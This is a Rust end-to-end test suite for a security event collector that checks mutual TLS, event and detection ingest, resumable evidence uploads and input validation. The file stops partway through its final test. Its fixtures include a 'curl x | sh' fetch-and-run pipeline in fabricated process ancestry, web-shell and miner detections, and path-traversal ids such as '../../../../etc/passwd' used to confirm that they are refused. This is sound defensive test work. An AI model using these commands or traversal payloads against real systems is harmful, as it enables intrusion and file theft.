//! End-to-end tests of the collector: the real `vigil-collector serve`
//! binary, real mutual TLS on loopback, real files and SQLite.

mod common;

use std::time::Duration;

use common::{bundle, files_under, noise, sealed_bundle, sha256_hex, Backend, Collector, Pki};
use tokio_stream::wrappers::ReceiverStream;
use tonic::transport::{Certificate, ClientTlsConfig, Endpoint};
use tonic::Code;
use vigil_proto::ingest_client::IngestClient;
use vigil_proto::{
    Detection, DetectionBatch, Event, EventBatch, EvidenceChunk, FetchEvidenceRequest,
    GetIncidentRequest, ListDetectionsRequest, ListIncidentsRequest, Severity, UploadStatusRequest,
};

const CHUNK: usize = 1 << 20;

fn exec_json(pid: u32, ppid: u32, exe: &str, i: usize) -> String {
    format!(
        r#"{{"time":"2026-11-26T14:09:00.{:09}Z","type":"exec","pid":{pid},"ppid":{ppid},"comm":"x","exe":"{exe}","argv":["{exe}","{i}"],"process":{{"pid":{pid},"ppid":{ppid},"exe":"{exe}","workload":{{"kind":"container","cgroup":"/docker/abc","container_id":"0123456789abcdef0123456789abcdef"}}}},"ancestry":[{{"pid":{ppid},"exe":"/usr/bin/node","argv":["node","app.js"]}},{{"pid":1,"exe":"/sbin/init","argv":["/sbin/init"]}}]}}"#,
        i % 1_000_000_000
    )
}

fn detection_json(
    sec: u32,
    pid: u32,
    exe: &str,
    rule: &str,
    severity: &str,
    evidence: &str,
) -> String {
    format!(
        r#"{{"time":"2026-11-26T14:09:{sec:02}Z","rule":"{rule}","severity":"{severity}","mitre":["T1059","T1190"],"summary":"{rule}: {exe}","process":{{"pid":{pid},"ppid":200,"exe":"{exe}","comm":"x","argv":["{exe}","-c","id"],"uid":33,"workload":{{"kind":"container","cgroup":"/docker/abc","container_id":"0123456789abcdef0123456789abcdef"}}}},"ancestry":[{{"pid":200,"exe":"/bin/sh","argv":["sh","-c","curl x | sh"]}},{{"pid":100,"exe":"/usr/bin/node","argv":["node","app.js"]}},{{"pid":1,"exe":"/sbin/init","argv":["/sbin/init"]}}],"evidence":{evidence}}}"#
    )
}

fn events(n: usize, start: usize) -> Vec<Event> {
    (start..start + n)
        .map(|i| {
            Event::from_agent_json(&exec_json(300 + i as u32 % 50, 200, "/usr/bin/curl", i))
                .unwrap()
        })
        .collect()
}

/// Chunks of `data` from `offset`, the first carrying the id and size.
fn chunks(id: &str, data: &[u8], offset: usize) -> Vec<EvidenceChunk> {
    chunks_of(id, data, offset, CHUNK)
}

fn chunks_of(id: &str, data: &[u8], offset: usize, size: usize) -> Vec<EvidenceChunk> {
    data[offset..]
        .chunks(size)
        .enumerate()
        .map(|(i, c)| EvidenceChunk {
            bundle_id: if i == 0 {
                id.to_string()
            } else {
                String::new()
            },
            total_size: data.len() as u64,
            offset: (offset + i * size) as u64,
            data: c.to_vec(),
            label: if i == 0 {
                "test bundle".into()
            } else {
                String::new()
            },
            signature: Vec::new(),
        })
        .collect()
}

async fn fetch(c: &Collector, pki: &Pki, id: &str) -> Result<Vec<u8>, tonic::Status> {
    let mut q = c.query(pki).await;
    let mut stream = q
        .fetch_evidence(FetchEvidenceRequest {
            bundle_id: id.to_string(),
            offset: 0,
        })
        .await?
        .into_inner();
    let mut out = Vec::new();
    while let Some(m) = stream.message().await? {
        assert_eq!(m.offset as usize, out.len());
        out.extend_from_slice(&m.data);
    }
    Ok(out)
}

/// Waits until the collector wrote at least `min` bytes of `id` to its
/// partial file (what it reports as held is only what it fsynced since:
/// it commits every few MiB and when a stream ends).
async fn wait_for_written(c: &Collector, id: &str, min: u64) -> u64 {
    let part = c.data_dir.join("partial").join(format!("{id}.part"));
    for _ in 0..400 {
        let len = std::fs::metadata(&part).map(|m| m.len()).unwrap_or(0);
        if len >= min {
            return len;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    panic!("the collector never wrote {min} bytes of {id}");
}

async fn status(c: &Collector, pki: &Pki, id: &str) -> vigil_proto::UploadStatusReply {
    c.ingest(pki, "agent-1")
        .await
        .upload_status(UploadStatusRequest {
            bundle_id: id.to_string(),
        })
        .await
        .unwrap()
        .into_inner()
}

async fn events_and_detections_are_stored_with_the_agent_identity_and_grouped(backend: Backend) {
    let pki = Pki::new();
    let data = tempfile::tempdir().unwrap();
    let c = Collector::start(backend, &pki, data.path(), &[]);
    let mut ingest = c.ingest(&pki, "agent-1").await;

    // Three batches, the second sent twice (a retry after a lost ack).
    let batches = vec![
        EventBatch {
            batch_id: "1".into(),
            events: events(500, 0),
        },
        EventBatch {
            batch_id: "2".into(),
            events: events(500, 500),
        },
        EventBatch {
            batch_id: "2".into(),
            events: events(500, 500),
        },
        EventBatch {
            batch_id: "3".into(),
            events: events(1, 1000),
        },
    ];
    let ack = ingest
        .push_events(tokio_stream::iter(batches))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(
        (ack.accepted, ack.batches, ack.duplicate_batches),
        (1001, 3, 1)
    );

    let evidence_id = sha256_hex(b"bundle");
    let dets = [
        detection_json(1, 200, "/bin/sh", "web_shell", "high", "null"),
        detection_json(
            2,
            301,
            "/usr/bin/curl",
            "downloader",
            "medium",
            &format!(r#"{{"bundle_id":"{evidence_id}"}}"#),
        ),
        detection_json(3, 302, "/tmp/xmrig", "miner", "critical", "null"),
    ];
    let dets: Vec<Detection> = dets
        .iter()
        .map(|j| Detection::from_agent_json(j).unwrap())
        .collect();
    let ack = ingest
        .push_detections(tokio_stream::iter(vec![DetectionBatch {
            batch_id: "d1".into(),
            detections: dets.clone(),
        }]))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(ack.accepted, 3);
    // A second agent's detection of the same shape is its own incident.
    let mut other = c.ingest(&pki, "agent-2").await;
    other
        .push_detections(tokio_stream::iter(vec![DetectionBatch {
            batch_id: "d1".into(),
            detections: dets[..1].to_vec(),
        }]))
        .await
        .unwrap();

    let mut q = c.query(&pki).await;
    let incidents = q
        .list_incidents(ListIncidentsRequest::default())
        .await
        .unwrap()
        .into_inner()
        .incidents;
    assert_eq!(incidents.len(), 2, "{incidents:#?}");
    let mine = incidents.iter().find(|i| i.agent == "agent-1").unwrap();
    assert_eq!(mine.detection_count, 3);
    assert_eq!(mine.max_severity, Severity::Critical as i32);
    assert_eq!(mine.root_exe, "/usr/bin/node");
    assert_eq!(mine.workload_key, "container:0123456789ab");

    let detail = q
        .get_incident(GetIncidentRequest { id: mine.id })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(detail.detections.len(), 3);
    assert!(detail.detections.iter().all(|d| d.agent == "agent-1"));
    // The JSON travels unchanged.
    assert_eq!(
        detail.detections[0].detection.as_ref().unwrap().json,
        dets[0].json
    );
    assert_eq!(detail.evidence.len(), 1);
    assert_eq!(detail.evidence[0].bundle_id, evidence_id);
    assert!(
        !detail.events.is_empty(),
        "events of the detected processes"
    );

    let by_rule = q
        .list_detections(ListDetectionsRequest {
            rule: "miner".into(),
            ..Default::default()
        })
        .await
        .unwrap()
        .into_inner()
        .detections;
    assert_eq!(by_rule.len(), 1);
    let missing = q
        .get_incident(GetIncidentRequest { id: 999 })
        .await
        .unwrap_err();
    assert_eq!(missing.code(), Code::NotFound);
}

async fn evidence_upload_in_chunks_fetches_back_identical(backend: Backend) {
    let pki = Pki::new();
    let data = tempfile::tempdir().unwrap();
    let c = Collector::start(backend, &pki, data.path(), &[]);
    let bytes = bundle(5 * CHUNK + 12345, 7);
    let id = sha256_hex(&bytes);
    let mut ingest = c.ingest(&pki, "agent-1").await;
    let r = ingest
        .upload_evidence(tokio_stream::iter(chunks(&id, &bytes, 0)))
        .await
        .unwrap()
        .into_inner();
    assert!(r.complete);
    assert_eq!(r.received, bytes.len() as u64);
    assert_eq!(fetch(&c, &pki, &id).await.unwrap(), bytes);
    let s = status(&c, &pki, &id).await;
    assert!(s.complete);
    // Content-addressed: uploading it again is a no-op that says complete.
    let again = ingest
        .upload_evidence(tokio_stream::iter(chunks(&id, &bytes, 0)))
        .await
        .unwrap()
        .into_inner();
    assert!(again.complete);
    assert_eq!(
        files_under(&data.path().join("blobs")),
        vec![format!("sha256/{}/{}", &id[..2], &id[2..])]
    );
    assert!(files_under(&data.path().join("partial")).is_empty());
}

async fn interrupted_uploads_resume(backend: Backend) {
    let pki = Pki::new();
    let data = tempfile::tempdir().unwrap();
    let c = Collector::start(backend, &pki, data.path(), &[]);
    let bytes = bundle(4 * CHUNK, 11);
    let id = sha256_hex(&bytes);
    let all = chunks(&id, &bytes, 0);
    let mut ingest = c.ingest(&pki, "agent-1").await;

    // 1. The agent ends its stream early: the collector keeps what came.
    let r = ingest
        .upload_evidence(tokio_stream::iter(all[..2].to_vec()))
        .await
        .unwrap()
        .into_inner();
    assert!(!r.complete);
    assert_eq!(r.received, 2 * CHUNK as u64);
    let s = status(&c, &pki, &id).await;
    assert_eq!(
        (s.received, s.complete, s.total_size),
        (2 * CHUNK as u64, false, bytes.len() as u64)
    );
    assert_eq!(
        fetch(&c, &pki, &id).await.unwrap_err().code(),
        Code::NotFound
    );

    // 2. The connection drops in the middle of the next chunk stream.
    let (tx, rx) = tokio::sync::mpsc::channel(4);
    let mut client = c.ingest(&pki, "agent-1").await;
    let call = tokio::spawn(async move { client.upload_evidence(ReceiverStream::new(rx)).await });
    for ch in chunks(&id, &bytes, 2 * CHUNK).into_iter().take(1) {
        tx.send(ch).await.unwrap();
    }
    wait_for_written(&c, &id, 3 * CHUNK as u64).await;
    call.abort();
    drop(tx);

    // 3. Resume from what the collector holds (retrying while it still
    //    finishes the cancelled call, as an agent does).
    let mut attempts = 0;
    let r = loop {
        let s = status(&c, &pki, &id).await;
        assert!(!s.complete);
        assert!(s.received >= 2 * CHUNK as u64, "{s:?}");
        match ingest
            .upload_evidence(tokio_stream::iter(chunks(&id, &bytes, s.received as usize)))
            .await
        {
            Err(e) if e.code() == Code::Aborted && attempts < 50 => {
                attempts += 1;
                tokio::time::sleep(Duration::from_millis(100)).await;
            }
            other => break other.unwrap().into_inner(),
        }
    };
    assert!(r.complete, "{r:?}");
    assert_eq!(fetch(&c, &pki, &id).await.unwrap(), bytes);

    // A chunk past what is held is refused with the offset to resume at.
    let b2 = bundle(2 * CHUNK, 12);
    let id2 = sha256_hex(&b2);
    let err = ingest
        .upload_evidence(tokio_stream::iter(chunks(&id2, &b2, CHUNK)))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::OutOfRange, "{err:?}");
    assert!(err.message().contains("resume at 0"), "{err:?}");
}

async fn clients_without_a_valid_certificate_are_refused(backend: Backend) {
    let pki = Pki::new();
    let data = tempfile::tempdir().unwrap();
    let mut c = Collector::start(backend, &pki, data.path(), &[]);
    let ca = std::fs::read_to_string(pki.path().join("ca.pem")).unwrap();

    // No client certificate at all.
    let tls = ClientTlsConfig::new()
        .ca_certificate(Certificate::from_pem(&ca))
        .domain_name("localhost");
    let refused = async {
        let ch = Endpoint::from_shared(c.url())?
            .tls_config(tls)?
            .connect()
            .await?;
        IngestClient::new(ch)
            .upload_status(UploadStatusRequest {
                bundle_id: "0".repeat(64),
            })
            .await?;
        Ok::<_, Box<dyn std::error::Error>>(())
    }
    .await;
    assert!(
        refused.is_err(),
        "a client without a certificate got through"
    );

    // A certificate from another CA (trusting the right server CA).
    let other = Pki::new();
    let mut files = other.agent("agent-1");
    files.ca = pki.path().join("ca.pem");
    let refused = async {
        let ch = vigil_collector::client::connect(&c.url(), &files, None).await?;
        IngestClient::new(ch)
            .upload_status(UploadStatusRequest {
                bundle_id: "0".repeat(64),
            })
            .await?;
        Ok::<_, anyhow::Error>(())
    }
    .await;
    assert!(
        refused.is_err(),
        "a certificate from another CA got through"
    );

    // The wrong role: an agent reading, an analyst pushing.
    let mut as_agent =
        vigil_proto::query_client::QueryClient::new(c.channel(&pki.agent("agent-1")).await);
    let err = as_agent
        .list_incidents(ListIncidentsRequest::default())
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::PermissionDenied, "{err:?}");
    let mut as_analyst = IngestClient::new(c.channel(&pki.analyst()).await);
    let err = as_analyst
        .push_events(tokio_stream::iter(vec![EventBatch::default()]))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::PermissionDenied, "{err:?}");

    // And the collector still serves.
    assert!(c.is_running());
    let s = status(&c, &pki, &"0".repeat(64)).await;
    assert_eq!(s.received, 0);
}

async fn hash_mismatch_is_data_loss_and_nothing_is_stored(backend: Backend) {
    let pki = Pki::new();
    let data = tempfile::tempdir().unwrap();
    let c = Collector::start(backend, &pki, data.path(), &[]);
    let claimed = bundle(3 * CHUNK, 1);
    let mut sent = claimed.clone();
    let mid = sent.len() / 2;
    sent[mid] ^= 0xff;
    let id = sha256_hex(&claimed);
    let mut ingest = c.ingest(&pki, "agent-1").await;
    let err = ingest
        .upload_evidence(tokio_stream::iter(chunks(&id, &sent, 0)))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::DataLoss, "{err:?}");
    assert!(err.message().contains("mismatch"), "{err:?}");
    let s = status(&c, &pki, &id).await;
    assert_eq!((s.received, s.complete), (0, false));
    assert!(files_under(&data.path().join("blobs")).is_empty());
    assert!(files_under(&data.path().join("partial")).is_empty());
    assert_eq!(
        fetch(&c, &pki, &id).await.unwrap_err().code(),
        Code::NotFound
    );
    // The right bytes still go through afterwards.
    let r = ingest
        .upload_evidence(tokio_stream::iter(chunks(&id, &claimed, 0)))
        .await
        .unwrap()
        .into_inner();
    assert!(r.complete);
}

async fn limits_are_enforced_and_the_server_keeps_serving(backend: Backend) {
    let pki = Pki::new();
    let data = tempfile::tempdir().unwrap();
    let mut c = Collector::start(
        backend,
        &pki,
        data.path(),
        &[
            "--max-message-bytes",
            "1048576",
            "--max-bundle-bytes",
            "4194304",
            "--max-batch-items",
            "100",
            "--max-concurrent-uploads",
            "1",
        ],
    );
    let mut ingest = c.ingest(&pki, "agent-1").await;

    // A message over --max-message-bytes.
    let mut big = events(1, 0);
    big[0].json = format!(r#"{{"pad":"{}"}}"#, "x".repeat(2 << 20));
    let err = ingest
        .push_events(tokio_stream::iter(vec![EventBatch {
            batch_id: "big".into(),
            events: big,
        }]))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::ResourceExhausted, "{err:?}");
    assert!(err.message().contains("too large"), "{err:?}");

    // A batch over --max-batch-items.
    let err = ingest
        .push_events(tokio_stream::iter(vec![EventBatch {
            batch_id: "many".into(),
            events: events(101, 0),
        }]))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::ResourceExhausted, "{err:?}");

    // A bundle over --max-bundle-bytes.
    let err = ingest
        .upload_evidence(tokio_stream::iter(vec![EvidenceChunk {
            bundle_id: "ab".repeat(32),
            total_size: 5 << 20,
            offset: 0,
            data: vec![0; 10],
            label: String::new(),
            signature: Vec::new(),
        }]))
        .await
        .unwrap_err();
    // Not worth retrying until an operator raises the limit: the agent sets
    // such a bundle aside.
    assert_eq!(err.code(), Code::FailedPrecondition, "{err:?}");
    assert!(
        err.message().contains("over the collector's limit"),
        "{err:?}"
    );

    // A second upload while the only slot is taken.
    let bytes = bundle(2 * CHUNK, 3);
    let id = sha256_hex(&bytes);
    let (tx, rx) = tokio::sync::mpsc::channel(4);
    let mut holder = c.ingest(&pki, "agent-1").await;
    let held = tokio::spawn(async move { holder.upload_evidence(ReceiverStream::new(rx)).await });
    let mut first = chunks_of(&id, &bytes, 0, 256 << 10).into_iter();
    tx.send(first.next().unwrap()).await.unwrap();
    wait_for_written(&c, &id, 256 << 10).await;
    let other = bundle(1000, 4);
    let err = ingest
        .upload_evidence(tokio_stream::iter(chunks(&sha256_hex(&other), &other, 0)))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::ResourceExhausted, "{err:?}");
    for ch in first {
        tx.send(ch).await.unwrap();
    }
    drop(tx);
    assert!(held.await.unwrap().unwrap().into_inner().complete);

    // Invalid content: nothing of the batch is stored.
    let mut bad = events(3, 0);
    bad[2].json = "not json".into();
    let err = ingest
        .push_events(tokio_stream::iter(vec![EventBatch {
            batch_id: "bad".into(),
            events: bad,
        }]))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::InvalidArgument, "{err:?}");
    assert!(err.message().contains("event 2"), "{err:?}");
    let mut bad =
        Detection::from_agent_json(&detection_json(1, 5, "/bin/sh", "r", "high", "null")).unwrap();
    bad.severity = 42;
    let err = ingest
        .push_detections(tokio_stream::iter(vec![DetectionBatch {
            batch_id: "x".into(),
            detections: vec![bad],
        }]))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::InvalidArgument, "{err:?}");
    let mut q = c.query(&pki).await;
    let stored = q
        .list_detections(ListDetectionsRequest::default())
        .await
        .unwrap()
        .into_inner();
    assert!(stored.detections.is_empty());

    // The server still serves normal traffic.
    assert!(c.is_running());
    let ack = ingest
        .push_events(tokio_stream::iter(vec![EventBatch {
            batch_id: "ok".into(),
            events: events(100, 0),
        }]))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(ack.accepted, 100);
}

async fn malformed_protobuf_is_invalid_argument(backend: Backend) {
    use tonic::codec::{Codec, DecodeBuf, Decoder, EncodeBuf, Encoder};

    /// Sends raw bytes as the message body.
    #[derive(Default)]
    struct Raw;
    struct RawEnc;
    struct RawDec;
    impl Encoder for RawEnc {
        type Item = Vec<u8>;
        type Error = tonic::Status;
        fn encode(&mut self, item: Vec<u8>, dst: &mut EncodeBuf<'_>) -> Result<(), tonic::Status> {
            use bytes::BufMut;
            dst.put_slice(&item);
            Ok(())
        }
    }
    impl Decoder for RawDec {
        type Item = Vec<u8>;
        type Error = tonic::Status;
        fn decode(&mut self, src: &mut DecodeBuf<'_>) -> Result<Option<Vec<u8>>, tonic::Status> {
            use bytes::Buf;
            Ok(Some(src.copy_to_bytes(src.remaining()).to_vec()))
        }
    }
    impl Codec for Raw {
        type Encode = Vec<u8>;
        type Decode = Vec<u8>;
        type Encoder = RawEnc;
        type Decoder = RawDec;
        fn encoder(&mut self) -> RawEnc {
            RawEnc
        }
        fn decoder(&mut self) -> RawDec {
            RawDec
        }
    }

    let pki = Pki::new();
    let data = tempfile::tempdir().unwrap();
    let mut c = Collector::start(backend, &pki, data.path(), &[]);
    let ch = c.channel(&pki.agent("agent-1")).await;
    let mut grpc = tonic::client::Grpc::new(ch);
    grpc.ready().await.unwrap();
    // Field 2 (events), length-delimited, claiming 100 bytes that are not there.
    let garbage = vec![0x12, 0x64, 0x01, 0x02];
    let err = grpc
        .client_streaming(
            tonic::Request::new(tokio_stream::iter(vec![garbage])),
            "/vigil.v1.Ingest/PushEvents".parse().unwrap(),
            Raw,
        )
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::InvalidArgument, "{err:?}");
    assert!(err.message().contains("malformed"), "{err:?}");
    assert!(c.is_running());
}

async fn malformed_ids_are_refused_without_touching_the_disk(backend: Backend) {
    let pki = Pki::new();
    let data = tempfile::tempdir().unwrap();
    let c = Collector::start(backend, &pki, data.path(), &[]);
    let mut ingest = c.ingest(&pki, "agent-1").await;
    let before = files_under(data.path());
    let bad_ids = [
        "../../../../etc/passwd".to_string(),
        format!("../{}", "a".repeat(61)),
        format!("{}/..", "a".repeat(60)),
        "A".repeat(64),
        "a".repeat(63),
        format!("{}\0", "a".repeat(63)),
        String::new(),
    ];
    for id in &bad_ids {
        let err = ingest
            .upload_evidence(tokio_stream::iter(vec![EvidenceChunk {
                bundle_id: id.clone(),
                total_size: 4,
                offset: 0,
                data: b"evil".to_vec(),
                label: String::new(),
                signature: Vec::new(),
            }]))
            .await
            .unwrap_err();
        assert_eq!(err.code(), Code::InvalidArgument, "{id:?}: {err:?}");
        let err = ingest
            .upload_status(UploadStatusRequest {
                bundle_id: id.clone(),
            })
            .await
            .unwrap_err();
        assert_eq!(err.code(), Code::InvalidArgument, "{id:?}: {err:?}");
        let err = fetch(&c, &pki, id).await.unwrap_err();
        assert_eq!(err.code(), Code::InvalidArgument, "{id:?}: {err:?}");
    }
    // A detection naming a malformed evidence id is refused too.
    let mut d =
        Detection::from_agent_json(&detection_json(1, 5, "/bin/sh", "r", "high", "null")).unwrap();
    d.evidence_ids = vec!["../../x".into()];
    let err = ingest
        .push_detections(tokio_stream::iter(vec![DetectionBatch {
            batch_id: String::new(),
            detections: vec![d],
        }]))
        .await
        .unwrap_err();
    assert_eq!(err.code(), Code::InvalidArgument);
    // Nothing new on disk but the database's own files.
    let after: Vec<String> = files_under(data.path())
        .into_iter()
        .filter(|f| !f.starts_with("vigil.db"))
        .collect();
    let before: Vec<String> = before
        .into_iter()
        .filter(|f| !f.starts_with("vigil.db"))
        .collect();
    assert_eq!(after, before);
}

async fn sigkill_during_upload_then_resume_gives_a_correct_blob(backend: Backend) {
    let pki = Pki::new();
    let data = tempfile::tempdir().unwrap();
    let c = Collector::start(backend, &pki, data.path(), &[]);
    let bytes = bundle(8 * CHUNK, 99);
    let id = sha256_hex(&bytes);

    // Stream half the bundle and keep the stream open.
    let (tx, rx) = tokio::sync::mpsc::channel(8);
    let mut client = c.ingest(&pki, "agent-1").await;
    let call = tokio::spawn(async move { client.upload_evidence(ReceiverStream::new(rx)).await });
    for ch in chunks(&id, &bytes, 0).into_iter().take(4) {
        tx.send(ch).await.unwrap();
    }
    wait_for_written(&c, &id, CHUNK as u64).await;

    // SIGKILL mid-upload.
    let c = c.restart();
    let res = call.await.unwrap();
    assert!(res.is_err(), "the interrupted call cannot succeed");
    drop(tx);

    // Nothing visible, a consistent prefix kept.
    assert!(files_under(&data.path().join("blobs")).is_empty());
    assert_eq!(
        fetch(&c, &pki, &id).await.unwrap_err().code(),
        Code::NotFound
    );
    // Only what was fsynced is held (the collector commits every 8 MiB
    // and when a stream ends; a SIGKILL ends nothing): possibly nothing.
    let s = status(&c, &pki, &id).await;
    assert!(!s.complete);
    assert!(s.received <= 4 * CHUNK as u64, "{s:?}");
    assert_eq!(s.total_size, bytes.len() as u64);

    // The agent resumes where the collector says.
    let mut ingest = c.ingest(&pki, "agent-1").await;
    let r = ingest
        .upload_evidence(tokio_stream::iter(chunks(&id, &bytes, s.received as usize)))
        .await
        .unwrap()
        .into_inner();
    assert!(r.complete, "{r:?}");
    assert_eq!(fetch(&c, &pki, &id).await.unwrap(), bytes);
    let on_disk = std::fs::read(
        data.path()
            .join("blobs/sha256")
            .join(&id[..2])
            .join(&id[2..]),
    )
    .unwrap();
    assert_eq!(sha256_hex(&on_disk), id);
    assert!(files_under(&data.path().join("partial")).is_empty());
}

async fn data_survives_a_restart(backend: Backend) {
    let pki = Pki::new();
    let data = tempfile::tempdir().unwrap();
    let c = Collector::start(backend, &pki, data.path(), &[]);
    let mut ingest = c.ingest(&pki, "agent-1").await;
    let d = Detection::from_agent_json(&detection_json(
        1,
        5,
        "/bin/sh",
        "web_shell",
        "high",
        "null",
    ))
    .unwrap();
    ingest
        .push_detections(tokio_stream::iter(vec![DetectionBatch {
            batch_id: "a".into(),
            detections: vec![d.clone()],
        }]))
        .await
        .unwrap();
    let c = c.restart();
    let mut q = c.query(&pki).await;
    let list = q
        .list_detections(ListDetectionsRequest::default())
        .await
        .unwrap()
        .into_inner();
    assert_eq!(list.detections.len(), 1);
    assert_eq!(list.detections[0].detection.as_ref().unwrap(), &d);
    // The batch id is still known: a resend is a duplicate.
    let mut ingest = c.ingest(&pki, "agent-1").await;
    let ack = ingest
        .push_detections(tokio_stream::iter(vec![DetectionBatch {
            batch_id: "a".into(),
            detections: vec![d],
        }]))
        .await
        .unwrap()
        .into_inner();
    assert_eq!((ack.accepted, ack.duplicate_batches), (0, 1));
}

/// Rebuilds a sealed bundle with one artifact's bytes changed but its
/// manifest kept: a forgery whose archive hash is (of course) its own.
fn tampered(bundle: &[u8]) -> Vec<u8> {
    let raw = zstd::decode_all(bundle).unwrap();
    let mut ar = tar::Archive::new(raw.as_slice());
    let mut out = tar::Builder::new(Vec::new());
    for e in ar.entries().unwrap() {
        let mut e = e.unwrap();
        let mut h = e.header().clone();
        let name = e.path().unwrap().into_owned();
        let mut data = Vec::new();
        std::io::Read::read_to_end(&mut e, &mut data).unwrap();
        if name.to_str() == Some("core") {
            data[0] ^= 1;
        }
        out.append_data(&mut h, name, data.as_slice()).unwrap();
    }
    zstd::encode_all(out.into_inner().unwrap().as_slice(), 1).unwrap()
}

async fn bundles_that_do_not_match_their_manifest_are_refused(backend: Backend) {
    let pki = Pki::new();
    let data = tempfile::tempdir().unwrap();
    let c = Collector::start(backend, &pki, data.path(), &[]);
    let mut ingest = c.ingest(&pki, "agent-1").await;
    let good = bundle(CHUNK, 21);
    for (what, bytes) in [
        ("an artifact changed", tampered(&good)),
        (
            "not a bundle",
            zstd::encode_all(noise(1000, 5).as_slice(), 1).unwrap(),
        ),
        ("not even zstd", noise(1000, 6)),
    ] {
        let id = sha256_hex(&bytes);
        let err = ingest
            .upload_evidence(tokio_stream::iter(chunks(&id, &bytes, 0)))
            .await
            .unwrap_err();
        assert_eq!(err.code(), Code::InvalidArgument, "{what}: {err:?}");
        assert!(err.message().contains("bundle refused"), "{what}: {err:?}");
        assert!(files_under(&data.path().join("blobs")).is_empty(), "{what}");
        assert!(
            files_under(&data.path().join("partial")).is_empty(),
            "{what}"
        );
        assert_eq!(status(&c, &pki, &id).await.received, 0, "{what}");
    }
    // The collector keeps serving, and the genuine bundle goes through.
    let id = sha256_hex(&good);
    let r = ingest
        .upload_evidence(tokio_stream::iter(chunks(&id, &good, 0)))
        .await
        .unwrap()
        .into_inner();
    assert!(r.complete);
}

/// The manifest names the detection (pid, event time): the bundle shows in
/// that detection's incident, whichever arrived first, with its place in
/// the agent's chain of custody.
async fn bundles_join_their_detection_and_chain(backend: Backend) {
    let pki = Pki::new();
    let data = tempfile::tempdir().unwrap();
    let c = Collector::start(backend, &pki, data.path(), &[]);
    let mut ingest = c.ingest(&pki, "agent-1").await;
    let b = sealed_bundle(1000, 31, 5, "2026-11-26T14:09:01Z");
    let id = sha256_hex(&b);
    assert!(
        ingest
            .upload_evidence(tokio_stream::iter(chunks(&id, &b, 0)))
            .await
            .unwrap()
            .into_inner()
            .complete
    );
    // The detection (pid 5 at 14:09:01) arrives after its bundle.
    let d = Detection::from_agent_json(&detection_json(
        1,
        5,
        "/bin/sh",
        "web_shell",
        "high",
        "null",
    ))
    .unwrap();
    ingest
        .push_detections(tokio_stream::iter(vec![DetectionBatch {
            batch_id: "d".into(),
            detections: vec![d],
        }]))
        .await
        .unwrap();
    let mut q = c.query(&pki).await;
    let incidents = q
        .list_incidents(ListIncidentsRequest::default())
        .await
        .unwrap()
        .into_inner()
        .incidents;
    assert_eq!(incidents.len(), 1);
    let detail = q
        .get_incident(GetIncidentRequest {
            id: incidents[0].id,
        })
        .await
        .unwrap()
        .into_inner();
    assert_eq!(detail.evidence.len(), 1, "{detail:?}");
    let e = &detail.evidence[0];
    assert_eq!(e.bundle_id, id);
    assert_eq!((e.pid, e.rule.as_str(), e.seq), (5, "web_shell", 1));
    assert_eq!(e.chain, "first");
    assert_eq!(e.manifest_agent, "test-agent");
}

/// Structured messages (agents from 0.2 on: no JSON inside the protobuf)
/// are stored as their JSON document and read like an old agent's; a
/// message with neither form is refused.
async fn structured_messages_are_stored_as_their_document(backend: Backend) {
    use vigil_proto::event::Payload;
    let pki = Pki::new();
    let data = tempfile::tempdir().unwrap();
    let c = Collector::start(backend, &pki, data.path(), &[]);
    let mut ingest = c.ingest(&pki, "agent-1").await;
    let process = vigil_proto::Process {
        pid: 301,
        ppid: 200,
        exe: "/usr/bin/curl".into(),
        comm: "curl".into(),
        argv: vec!["curl".into(), "http://203.0.113.9/x".into()],
        uid: 33,
        euid: 33,
        workload: Some(vigil_proto::Workload {
            kind: "container".into(),
            cgroup: "/docker/abc".into(),
            container_id: "0123456789abcdef".repeat(4),
            ..Default::default()
        }),
    };
    let ancestry = vec![
        vigil_proto::Ancestor {
            pid: 200,
            exe: "/bin/sh".into(),
            argv: vec!["sh".into(), "-c".into(), "curl x | sh".into()],
        },
        vigil_proto::Ancestor {
            pid: 100,
            exe: "/usr/bin/node".into(),
            argv: vec!["node".into()],
        },
    ];
    let own = Event {
        kind: "connect".into(),
        pid: 301,
        uid: 33,
        boot_ns: 5,
        tid: 301,
        comm: "curl".into(),
        payload: Some(Payload::Connect(vigil_proto::ConnectPayload {
            protocol: "tcp".into(),
            daddr: "203.0.113.9".into(),
            dport: 80,
            saddr: "10.0.0.2".into(),
            sport: 40000,
            ret: Some(0),
            send_to: false,
            rewritten_argv: vec![],
        })),
        ..Default::default()
    };
    let event = Event {
        time_unix_nanos: 1_796_205_600_000_000_000,
        ppid: 200,
        exe: process.exe.clone(),
        argv: process.argv.clone(),
        workload_key: "container:0123456789ab".into(),
        process: Some(process.clone()),
        ancestry: ancestry.clone(),
        ..own.clone()
    };
    let detection = Detection {
        time_unix_nanos: event.time_unix_nanos,
        rule: "downloader_connects_out".into(),
        severity: Severity::High as i32,
        mitre: vec!["T1105".into()],
        summary: "curl connected out".into(),
        pid: 301,
        ppid: 200,
        exe: process.exe.clone(),
        argv: process.argv.clone(),
        workload_key: "container:0123456789ab".into(),
        ancestry,
        uid: 33,
        comm: "curl".into(),
        detected_at: "2026-12-02T10:00:00.002000000Z".into(),
        latency_ns: 2_000_000,
        rule_source: "builtin".into(),
        process: Some(process),
        event: Some(own),
        capture: "queued".into(),
        ..Default::default()
    };
    let doc = vigil_proto::document::detection(&detection).unwrap();
    ingest
        .push_events(tokio_stream::iter(vec![EventBatch {
            batch_id: "e1".into(),
            events: vec![event.clone()],
        }]))
        .await
        .unwrap();
    ingest
        .push_detections(tokio_stream::iter(vec![DetectionBatch {
            batch_id: "d1".into(),
            detections: vec![detection],
        }]))
        .await
        .unwrap();
    let mut q = c.query(&pki).await;
    let stored = q
        .list_detections(ListDetectionsRequest::default())
        .await
        .unwrap()
        .into_inner()
        .detections;
    assert_eq!(stored.len(), 1);
